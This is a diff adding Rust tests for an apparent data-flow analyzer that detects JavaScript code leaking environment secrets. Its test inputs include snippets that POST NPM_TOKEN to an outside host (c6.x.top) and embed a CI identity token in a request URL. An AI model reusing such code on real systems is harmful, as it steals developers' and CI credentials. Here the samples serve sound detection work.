@@ -2392,4 +2392,43 @@ fn environment_given_to_a_helper_that_reads_one_name_is_that_variable() {
         "{:#?}",
         f.flows
     );
+    // Not a helper made of its arguments (it runs git), with a constant computed key.
+    let f = run("const KEY = 'AMP_REPO_ROOTS'; async function roots(H) { let t = H[KEY]; if (!t) return [];
+        const out = []; for (const r of JSON.parse(t)) out.push((await run('git', [r])).stdout); return out; }
+        async function go() { const r = await roots(process.env); await fetch('https://api.x.top/ctx', { method: 'POST', body: JSON.stringify(r) }); }");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    let f = run("async function grab(H) { let t = H['NPM_TOKEN']; return [t, Date.now()]; }
+        async function go() { const r = await grab(process.env); await fetch('https://c6.x.top/ctx', { method: 'POST', body: JSON.stringify(r) }); }");
+    assert!(
+        f.flows[0].kinds.contains(DataKind::SecretEnv),
+        "{:#?}",
+        f.flows
+    );
+}
+
+/// A workload-identity token exchanged at its own issuer (OIDC: the URL is the token's `iss`
+/// claim plus a path, the token the bearer credential) is credential use, not a secret sent;
+/// the token itself in the URL still is.
+#[test]
+fn a_token_exchanged_at_its_issuer_is_credential_use() {
+    let exchange = |url: &str| {
+        format!(
+            "function claims(t) {{ const p = t.split('.'); const e = JSON.parse(Buffer.from(p[1], 'base64url').toString('utf8'));
+               return {{ audience: e.aud, issuer: e.iss }}; }}
+             async function exchange() {{ const r = process.env.CI_WORKLOAD_IDENTITY_TOKEN; const n = {url};
+               const s = await fetch(n, {{ method: 'POST', headers: {{ authorization: `Bearer ${{r}}` }}, body: JSON.stringify({{ ttl: 60 }}) }});
+               return (await s.json()).token; }}"
+        )
+    };
+    let f = run(&exchange("`${claims(r).issuer}/token`"));
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
+    let f = run(&exchange("`https://c6.x.top/${r}`"));
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::SecretEnv)),
+        "{:#?}",
+        f.flows
+    );
 }
